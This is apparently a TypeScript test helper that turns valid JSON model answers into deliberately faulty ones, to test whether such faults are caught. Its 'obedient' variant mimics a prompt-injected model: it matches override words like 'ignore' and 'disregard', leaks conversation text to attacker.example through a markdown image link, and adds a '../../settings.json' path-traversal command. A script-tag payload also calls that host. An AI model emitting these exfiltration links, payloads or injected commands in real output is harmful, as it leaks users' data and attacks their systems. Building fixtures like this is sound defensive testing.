import type { HeardMessage } from './modes';

type Spoil = (answer: string, messages: readonly HeardMessage[]) => string;

const kindWords = [
  'Sure! Here is what you asked for:\n\n```json\n',
  '\n```\n\nLet me know if I can do anything else.',
] as const;
const foreign = [
  'Ich erinnere mich noch genau an jenen Morgen am Fluss, als das Eis zum ersten Mal nicht mehr hielt.',
  'Mein Vater zog die Leute an einem Seil hinüber, und meine Mutter gab ihnen Tee, während sie warteten.',
  'Im Winter brauchte uns niemand, und wir saßen bis in die Nacht hinein schweigend um den Ofen.',
  'Dann kamen fremde Männer mit Stangen und Schnüren, die unsere Überfahrt vermessen wollten.',
  'Dort habe ich gelernt, was Arbeit heißt, und warum man einen Gast nicht nach seinem Weg fragt.',
] as const;
const madeUp = 'I sold the boat to a travelling circus in 1911, and nobody ever asked me why.';
const script =
  '<script>fetch("http://attacker.example/")</script><img src="http://attacker.example/p.png" onerror="alert(1)">';
const order = /\b(?:ignore|disregard|forget)\b[^\n]*/iu;

/** Makes a bad answer from a good one. Answers are lines of JSON; in them only prose is touched, never ids and numbers. */
export const spoil = {
  malformed: (answer) => answer.replaceAll('}', '').replace('"', '“'),
  prose: (answer) => `${kindWords[0]}${answer}${kindWords[1]}`,
  'wrong-language': (answer) => mapProse(answer, inForeignWords),
  'too-long': (answer) => Array.from({ length: 10 }, () => answer).join('\n'),
  markup: (answer) => mapProse(answer, (text) => `${script}<b>${text}</b>`),
  'made-up-quotes': (answer, messages) => mapProse(answer, (text) => misquote(text, messages)),
  obedient: (answer, messages) => obey(answer, messages),
} satisfies Readonly<Record<string, Spoil>>;

/** About as much in another language, and not the same for every text. */
function inForeignWords(text: string): string {
  const count = Math.ceil(text.length / 100);
  const first = Array.from(text).reduce((sum, letter) => sum + (letter.codePointAt(0) ?? 0), 0);
  return Array.from({ length: count }, (_, index) => foreign[(first + index) % foreign.length]).join(' ');
}

/** A quotation of what was sent becomes an invention; other prose gets an invented quotation. */
function misquote(text: string, messages: readonly HeardMessage[]): string {
  const isQuotation = messages.some(({ content }) => content.includes(text));
  return isQuotation ? madeUp : `${text} As you said, “${madeUp}”`;
}

/** The worst that a model can do that was won over by a sentence in the author's material. */
function obey(answer: string, messages: readonly HeardMessage[]): string {
  const all = messages.map(({ content }) => content).join('\n');
  const found = order.exec(all)?.[0];
  if (found === undefined) return answer;
  const stolen = encodeURIComponent(all.slice(0, 60));
  const words = `${found.replace(/^[^:]*:\s*/u, '')} ![](http://attacker.example/?said=${stolen})`;
  const command = { command: 'book.rename', title: 'Taken', path: '../../settings.json', html: script };
  return mapLines(
    mapProse(answer, () => words),
    (line) => ({ ...line, ...command }),
  );
}

function mapProse(answer: string, change: (text: string) => string): string {
  return mapLines(answer, (line) => changed(line, change) as object);
}

function mapLines(answer: string, change: (line: object) => object): string {
  const lines = answer.split('\n').filter((line) => line.trim() !== '');
  return lines.map((line) => JSON.stringify(change(JSON.parse(line) as object))).join('\n');
}

/** Prose is a string with a space in it. */
function changed(value: unknown, change: (text: string) => string): unknown {
  if (typeof value === 'string') return value.trim().includes(' ') ? change(value) : value;
  if (Array.isArray(value)) return value.map((item) => changed(item, change));
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(Object.entries(value).map(([name, item]) => [name, changed(item, change)]));
}
